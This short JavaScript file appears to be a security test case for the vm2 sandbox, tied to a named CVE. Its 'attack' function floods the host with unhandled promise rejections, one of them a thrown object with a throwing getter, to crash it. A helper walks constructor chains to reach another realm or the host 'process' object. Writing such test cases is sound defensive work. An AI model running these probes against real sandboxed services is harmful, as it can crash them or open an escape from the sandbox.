// Tries: to end its host with rejections that nobody handles (vm2, CVE-2026-44001)
// Contained by: throw
const reached = []
/** Whether a value is of another realm, or leads to one. */
function look(name, value) {
  if (value === null || (typeof value !== 'object' && typeof value !== 'function')) return
  try {
    const make = value.constructor.constructor
    if (make !== Function) reached.push(`${name}: another realm`)
    if (make('return typeof process')() !== 'undefined') reached.push(`${name}: process`)
  } catch {}
}
function attack() {
  for (let i = 0; i < 1000; i++) Promise.reject(new Error('nobody handles it'))
  new Promise((_yes, no) => no(Symbol('nor this')))
  ;(async () => {
    throw { get stack() { throw new Error('nor this') } }
  })()
  return reached.length > 0 ? reached : 'nothing'
}
